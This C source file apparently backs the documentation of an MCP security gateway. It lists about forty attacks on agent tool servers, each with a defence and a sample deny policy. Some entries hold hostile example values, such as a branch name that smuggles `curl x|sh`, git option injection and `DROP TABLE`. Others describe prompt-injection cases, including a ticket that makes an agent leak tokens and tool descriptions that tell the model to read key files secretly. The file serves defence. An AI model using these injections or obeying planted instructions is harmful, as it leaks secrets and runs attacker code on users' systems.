#include "pages/attack.h"

#define READ (1u << RISK_READ)
#define WRITE (1u << RISK_WRITE)
#define EXECUTE (1u << RISK_EXECUTE)
#define DESTRUCTIVE (1u << RISK_DESTRUCTIVE)
#define FINANCIAL (1u << RISK_FINANCIAL)

/* In the order in which a page names them. */
const struct attack attack_table[] = {
    {"code-mode", "Code that calls every other tool",
     "A tool that runs code and reaches other servers turns one permitted call into any number of calls that "
     "nobody looks at: the agent's "
     "script reads with one server and sends with another.",
     "Calls from code come back through the gate and are judged one by one under the real tool's name; "
     "hidden tools stay hidden inside code.",
     "version: \"1\"\ndefault: deny\ntools:\n  execute_code:\n    rules:\n      - name: rate limit\n        "
     "rate_limit: 10/minute\n"
     "      - name: code is there\n        conditions: [{path: args.code, op: exists, value: true}]\n        "
     "on_deny: Code is required.\n",
     NULL, "code-mode servers, 2025; OWASP ASI05", RISK_TAG_META_TOOL, 0, false},
    {"command-injection", "Command injection through an argument",
     "Servers paste an argument into a shell line. A branch name such as `main; curl x|sh` or an option in "
     "disguise such as "
     "`--upload-pack=evil` then runs what the attacker wrote. Several published servers had this hole.",
     "`no_shell_meta` and `no_leading_dash` refuse such arguments before they reach the server, and limits "
     "end a loop.",
     "version: \"1\"\ndefault: deny\ntools:\n  git_checkout:\n    rules:\n      - name: a plain branch "
     "name\n        conditions:\n"
     "          - {path: args.branch, op: no_shell_meta, value: true}\n          - {path: args.branch, op: "
     "no_leading_dash, value: true}\n",
     NULL, "CVE-2025-53107, CVE-2025-53967, CVE-2025-5277", RISK_TAG_FREEFORM_CODE | RISK_TAG_EXEC, EXECUTE,
     false},
    {"sql-abuse", "A query tool that writes",
     "A tool described as a query takes any statement. The agent, or text that it has read, sends `DROP "
     "TABLE`, a `WITH` that deletes, or a "
     "`SELECT` that writes a file.",
     "`sql: read_only` reads the statement with the database's own grammar and lets only one statement that "
     "reads pass.",
     "version: \"1\"\ndefault: deny\ntools:\n  query:\n    rules:\n      - name: only reads\n        "
     "conditions: [{path: args.sql, op: sql, value: read_only}]\n"
     "        on_deny: Only statements that read.\n",
     NULL, "database servers, 2025; OWASP MCP05", RISK_TAG_SQL_ARGS, 0, false},
    {"support-ticket", "A support ticket that reads the database",
     "A customer writes instructions into a ticket. The agent reads it with a service account that sees "
     "every table, selects secret tokens "
     "and writes them back into the ticket.",
     "A flow rule: once a session has read untrusted text and private data, nothing leaves it "
     "without a person. SQL that writes is refused.",
     "version: \"1\"\ndefault: allow\ntools:\n  execute_sql:\n    rules:\n      - name: only reads\n        "
     "conditions: [{path: args.query, op: sql, value: read_only}]\n"
     "flows:\n  - name: untrusted text must not carry our data out\n    after: [src_untrusted, "
     "src_private]\n    approve: [sink, money, exec]\n",
     NULL, "Supabase with Cursor, July 2025", RISK_TAG_SQL_ARGS | RISK_TAG_SRC_PRIVATE, 0, false},
    {"toxic-flow", "From a public issue to a private repository",
     "An issue in a public repository tells the agent to look into private ones and to publish what it "
     "finds. Each call is allowed; their order is the attack.",
     "Flow labels follow an identity across sessions: after untrusted and private reads, what carries data "
     "out is denied or waits for a person.",
     "version: \"1\"\ndefault: allow\ntools: {}\nflows:\n  - name: untrusted text must not carry our "
     "data out\n"
     "    after: [src_untrusted, src_private]\n    deny: [sink, money]\n",
     NULL, "GitHub server, Invariant Labs, May 2025",
     RISK_TAG_SRC_UNTRUSTED | RISK_TAG_SRC_PRIVATE | RISK_TAG_SINK, 0, false},
    {"prompt-injection", "Instructions inside a result",
     "A web page, an issue, a mail or a file that a tool returns holds instructions. The model takes them "
     "for the user's.",
     "Results are searched for hidden characters, escape sequences and imperatives to the model; the session "
     "is marked as having read untrusted text, and flow rules act on it.",
     "version: \"1\"\ndefault: allow\ntools: {}\nflows:\n  - name: after untrusted text a person decides\n  "
     "  after: [src_untrusted]\n    approve: [exec, money]\n",
     "sallyport serve --poison-results flag", "OWASP MCP06, ASI01", RISK_TAG_SRC_UNTRUSTED, 0, false},
    {"ssrf", "A fetch that reaches the inside",
     "A tool that fetches a URL is sent to the metadata service of the cloud, to the loopback, or to a "
     "private address in an odd spelling "
     "(decimal, octal, IPv4 inside IPv6).",
     "`host` parses the address, refuses user names, other schemes and every spelling of an inner address, "
     "and takes a list of hosts.",
     "version: \"1\"\ndefault: deny\ntools:\n  fetch:\n    rules:\n      - name: public hosts\n        "
     "conditions: [{path: args.url, op: host, value: \"*\"}]\n"
     "        on_deny: Only public web addresses.\n",
     NULL, "CVE-2026-26118", RISK_TAG_URL_ARGS, 0, false},
    {"path-traversal", "A path that leaves its directory",
     "`../..`, a directory whose name begins like the permitted one, a link inside it: the file tool reads "
     "or writes where it must not.",
     "`under` folds the path, compares whole components, refuses NUL, `~` and encoded dots, and follows "
     "links where the server is on this machine.",
     "version: \"1\"\ndefault: deny\ntools:\n  write_file:\n    rules:\n      - name: inside the project\n   "
     "     conditions: [{path: args.path, op: under, value: /srv/data}]\n"
     "        on_deny: Outside the permitted directory.\n",
     NULL, "CVE-2025-53109, CVE-2025-53110, CVE-2025-68145", RISK_TAG_PATH_ARGS, 0, false},
    {"agent-config", "Writing the agent's own configuration",
     "The agent is led to write `.cursor/mcp.json`, an editor's settings or a shell's start file. The next "
     "start runs the attacker's command.",
     "The preset `protect_agent_config` refuses every call that changes something and names such a path, "
     "whatever the argument is called.",
     "version: \"1\"\ndefault: allow\npresets: [protect_agent_config]\ntools: {}\n", NULL,
     "CVE-2025-54135, CVE-2025-49596", RISK_TAG_PATH_ARGS, 0, false},
    {"argument-exfiltration", "Data carried out in arguments",
     "A parameter called note, context or sidenote, a query string or a host name carries keys and "
     "conversation to the server or beyond.",
     "Secrets are found in arguments in many encodings; arguments that the schema does not know are refused; "
     "sizes are limited.",
     "version: \"1\"\ndefault: allow\nall_tools:\n  deny_if:\n    - conditions: [{path: args, op: "
     "contains_secret, value: true}]\n      on_deny: No secrets in arguments.\ntools: {}\n",
     NULL, "OWASP MCP01, MCP10", RISK_TAG_SINK, 0, false},
    {"runaway-loop", "A loop that does not end",
     "An agent repeats a call hundreds of times: builds, messages and bills pile up before anybody looks.",
     "Limits per tool and identity, a limit on identical calls, and a cap on calls in flight, counted before "
     "the call is forwarded.",
     "version: \"1\"\ndefault: allow\nall_tools:\n  limits:\n    - {counter: same, kind: "
     "identical, window: hour, max: 5, scope: grant}\n"
     "    - {counter: all, window: minute, max: 60, scope: grant}\ntools: {}\n",
     NULL, "OWASP ASI08", 0, WRITE | EXECUTE | FINANCIAL, false},
    {"spend", "Money moved without a person",
     "A refund, an order or a subscription is one tool call. A misread instruction, or one in an untrusted "
     "text, pays at once.",
     "Tools that move money are refused by the starter policy; `require_approval` puts each call before a "
     "person, bound to its exact arguments.",
     "version: \"1\"\ndefault: deny\ntools:\n  create_refund:\n    rules:\n      - name: a person decides\n  "
     "      action: require_approval\n",
     NULL, "OWASP ASI02", RISK_TAG_MONEY, FINANCIAL, false},
    {"mass-deletion", "Deletion without a way back",
     "An agent that cleans up, migrates or tests deletes what it did not make. There is no undo behind most "
     "tools.",
     "Destructive tools are refused by the starter policy, and approvals are bound to one call with these "
     "arguments.",
     "version: \"1\"\ndefault: allow\ntools:\n  \"@destructive\":\n    rules:\n      - name: a person "
     "decides\n        action: require_approval\n",
     NULL, "production databases deleted by agents, 2025; OWASP ASI02", 0, DESTRUCTIVE, false},
    {"approval-swap", "Another argument after the approval",
     "A person approves a call; before it runs, its arguments or the tool's definition change.",
     "An approval holds for one tool, one definition and one set of arguments, once, and expires.", NULL,
     "sallyport approvals list", "OWASP ASI09", 0, DESTRUCTIVE | FINANCIAL, false},
    {"cross-tenant", "Data of another tenant",
     "A server mixes up its customers and returns what belongs to another. The gate sees only the answer.",
     "It cannot be prevented on the wire. A rule on the workspace argument and credentials per grant narrow "
     "what one session can ask for.",
     "version: \"1\"\ndefault: deny\ntools:\n  search:\n    rules:\n      - name: our workspace\n        "
     "conditions: [{path: args.workspace, op: eq, value: ours}]\n",
     NULL, "Asana, June 2025", RISK_TAG_SRC_PRIVATE, 0, false},
    {"secrets-in-results", "Secrets in results",
     "A file, a log or a settings page that a tool returns holds keys and tokens. From then on they are in "
     "the conversation.",
     "Results are searched for secrets and personal data; they are replaced by tokens, redacted, or the "
     "result is blocked.",
     NULL, "sallyport -c policy.yaml --pii tokenize -- CMD", "OWASP MCP01", RISK_TAG_SRC_PRIVATE, 0, false},
    {"capability-laundering", "A harmless name with another effect",
     "`git_init` creates folders anywhere; a memory tool writes any file that its setting names. The effect "
     "is not what the name says.",
     "Path and URL rules are made from the schema of every tool, not only of those that are called file "
     "tools.",
     "version: \"1\"\ndefault: deny\ntools:\n  git_init:\n    rules:\n      - name: inside the project\n     "
     "   conditions: [{path: args.repo_path, op: under, value: /srv/data}]\n",
     NULL, "CVE-2025-68143", RISK_TAG_PATH_ARGS, WRITE, false},
    {"git-server", "Arguments that git takes for options",
     "`git_diff` and `git_checkout` pass a name on to git, which takes `--output=/etc/x` for an option.",
     "`no_leading_dash` on what names a revision, `under` on the repository, and `git_init` hidden.",
     "version: \"1\"\ndefault: deny\nhide: [git_init]\ntools:\n  git_diff:\n    rules:\n      - name: a "
     "plain revision\n        conditions:\n"
     "          - {path: args.target, op: no_leading_dash, value: true}\n          - {path: args.repo_path, "
     "op: under, value: /srv/data}\n",
     NULL, "CVE-2025-68143, CVE-2025-68144, CVE-2025-68145", RISK_TAG_PATH_ARGS, 0, false},
    {"tool-poisoning", "Instructions inside a tool's description",
     "The description of an `add` tool tells the model to read a key file and to pass it along, and not to "
     "mention it. People see the name only.",
     "Every text of a definition is looked at when tools are listed; a poisoned tool is hidden and its calls "
     "are refused.",
     NULL, "sallyport scan --fail-on poison -- CMD", "Invariant Labs, April 2025; OWASP MCP03", 0, 0, true},
    {"schema-poisoning", "Instructions in parameter names and defaults",
     "The same text stands in an enum, a default, a title or the output schema, where a reader of "
     "descriptions does not look.",
     "The detectors read every string of a definition, keys included.", NULL,
     "sallyport scan --fail-on poison -- CMD", "CyberArk, 2025; OWASP MCP03", 0, 0, true},
    {"line-jumping", "Instructions before any call",
     "A server's `instructions` reach the model as soon as it connects, before anybody has allowed a tool.",
     "`instructions` are looked at like definitions and dropped when they are poisoned.", NULL,
     "sallyport scan --fail-on poison -- CMD", "Trail of Bits, 2025; OWASP MCP06", 0, 0, true},
    {"rug-pull", "A definition that changes after it was accepted",
     "A server behaves for a week, then changes what a tool says or takes.",
     "Fingerprints of all definitions are pinned; a changed or new tool is held until somebody accepts it.",
     NULL, "sallyport pin list\nsallyport pin diff\nsallyport pin accept SERVER TOOL",
     "CVE-2025-54136; OWASP MCP04", 0, 0, true},
    {"late-arrival", "A tool that appears later",
     "A server announces a new tool in the middle of a session, when nobody reviews lists any more.",
     "A tool that is not pinned is new: it is refused until it is accepted.", NULL, "sallyport pin diff",
     "OWASP MCP04", 0, 0, true},
    {"lying-hints", "A deletion that calls itself read-only",
     "A server marks `delete_all` with `readOnlyHint`, and clients skip the question.",
     "Hints may raise a class and never lower it; a mismatch is reported.", NULL,
     "sallyport scan --format table -- CMD", "OWASP MCP03", 0, DESTRUCTIVE, false},
    {"shadowing", "A tool that imitates or steers another",
     "Two servers export `send_email`, or the description of one says what to do when the other is used.",
     "Tools carry their server's name; names that look alike are refused; a description that names another "
     "server's tool is reported.",
     NULL, "sallyport scan --mcp-config .mcp.json --fail-on poison", "Invariant Labs, 2025; OWASP ASI07", 0,
     0, true},
    {"homoglyph-names", "Names with letters that look alike",
     "A tool's name has a Cyrillic letter or a zero-width space, so that a rule for the plain name does not "
     "meet it.",
     "Names that are not plain are hidden; look-alikes are compared by what they look like.", NULL,
     "sallyport scan --fail-on poison -- CMD", "OWASP MCP03", 0, 0, true},
    {"terminal-escapes", "Escape sequences for a terminal",
     "Text of a server moves the cursor, hides lines or makes a link in the terminal of the person who reads "
     "it.",
     "Control characters are shown, not sent; results and descriptions are cleaned.", NULL,
     "sallyport scan -- CMD", "Trail of Bits, 2025", 0, 0, true},
    {"invisible-text", "Invisible text",
     "Instructions in Unicode tags or between bidirectional controls: the model reads them, a person cannot.",
     "Invisible code points are found in definitions and results; a definition that has them is refused.",
     NULL, "sallyport scan --fail-on poison -- CMD", "2024 and 2025, several; OWASP MCP03", 0, 0, true},
    {"malicious-package", "A package that turns",
     "A mail server's sixteenth version added a hidden copy to an attacker's address for every mail that it "
     "sent.",
     "It cannot be seen on the wire. Pin the version, keep the hash of the program, run it without a network "
     "that it does not need.",
     NULL, "sallyport scan --no-network -- npx -y NAME@1.2.3\nsallyport pin accept",
     "postmark-mcp, September 2025; OWASP MCP04", RISK_TAG_SINK, 0, false},
    {"typosquat", "A package with nearly the right name",
     "One letter is another one; the command line still looks right.",
     "Names are compared with known ones of the same registry; a close one is not started until somebody "
     "trusts it, on record.",
     NULL, "sallyport doctor\nsallyport catalogue trust NAME", "registries, continuously; OWASP MCP04", 0, 0,
     true},
    {"confused-deputy", "The agent's credential at the wrong server",
     "A gateway passes on whatever token the agent shows, and a server uses it elsewhere.",
     "A grant ends at the gate. Each server gets its own credential; the agent's is never forwarded.", NULL,
     "sallyport grants create NAME", "MCP security guidance; OWASP MCP07", 0, 0, true},
    {"session-hijack", "A session that somebody else continues",
     "A guessable or leaked session id lets another client go on with it.",
     "Session ids have 128 random bits and belong to the identity that opened them; another one gets 404.",
     NULL, NULL, "CVE-2025-6515", 0, 0, true},
    {"dns-rebinding", "A web page that talks to a local server",
     "A name that resolves to the loopback lets a page in the browser call a server on the same machine.",
     "The gate listens on the loopback and checks Host and Origin.", NULL, NULL,
     "CVE-2025-49596, CVE-2025-66414", 0, 0, true},
    {"oauth-metadata", "A login address that runs a command",
     "A server's OAuth metadata names an address that a client hands to a shell.",
     "The gate does the login itself, takes https addresses only and starts no shell.", NULL,
     "sallyport login SERVER", "CVE-2025-6514", 0, 0, true},
    {"parser-differential", "Two readers of one message",
     "Duplicate keys, odd numbers or nested batches: the gate reads one thing, the server another.",
     "One strict parser; what is ambiguous is refused; what was judged is what is sent.", NULL, NULL,
     "CVE-2026-27896", 0, 0, true},
    {"sampling-abuse", "A server that uses your model",
     "A server asks the client for completions: it spends the quota, steers the conversation, or has tools "
     "called.",
     "Sampling from servers is denied unless a policy names it, with a cap on tokens.",
     "version: \"1\"\ndefault: allow\ntools: {}\nmethods:\n  sampling/createMessage:\n    rules:\n      - "
     "name: short answers\n"
     "        conditions: [{path: params.maxTokens, op: lte, value: 500}]\n",
     NULL, "Unit 42, December 2025", 0, 0, true},
    {"elicitation-phishing", "A server that asks for a password",
     "A server asks the user, through the client, for a token or card number.",
     "Questions for credentials are denied, and so are addresses that are not https.",
     "version: \"1\"\ndefault: allow\ntools: {}\nmethods:\n  elicitation/create: deny\n", NULL,
     "2025; OWASP ASI09", 0, 0, true},
    {"roots-disclosure", "A list of your folders",
     "A server asks for `roots/list` and learns the names of projects and users.",
     "A policy on methods denies or answers it.",
     "version: \"1\"\ndefault: allow\ntools: {}\nmethods:\n  roots/list: deny\n", NULL,
     "MCP specification, security notes", 0, 0, true},
    {"resource-channel", "Files through resources",
     "`resources/read` of a file address, or a prompt template, goes around rules that speak of tools only.",
     "Methods have rules of their own, with the same operators and detectors.",
     "version: \"1\"\ndefault: allow\ntools: {}\nmethods:\n  resources/read:\n    rules:\n      - name: "
     "documents only\n"
     "        conditions: [{path: params.uri, op: starts_with, value: \"docs://\"}]\n",
     NULL, "OWASP MCP10", RISK_TAG_SRC_PRIVATE, 0, false},
    {"notification-channel", "Log lines as a channel",
     "Progress and log notifications carry data out or instructions in, since nobody reads them.",
     "They are limited in size, searched like results, and can be dropped by policy.",
     "version: \"1\"\ndefault: allow\ntools: {}\nmethods:\n  notifications/message: deny\n", NULL,
     "OWASP MCP10", 0, 0, true},
    {"shadow-servers", "Servers that nobody listed",
     "A developer adds a server to one client; nobody else knows of it.",
     "An inventory of all clients' configurations, and a gate that knows only the servers in its own file.",
     NULL, "sallyport init\nsallyport scan --mcp-config .mcp.json", "OWASP MCP09", 0, 0, true},
    {"missing-audit", "Nobody can say what happened",
     "After an incident there is no record of which agent called what with which arguments.",
     "Every decision is recorded in a hash chain that shows when it was changed; a call that cannot be "
     "recorded is refused.",
     NULL, "sallyport audit query --since yesterday\nsallyport audit verify", "OWASP MCP08", 0, 0, true},
};

const size_t attack_count = sizeof(attack_table) / sizeof(attack_table[0]);
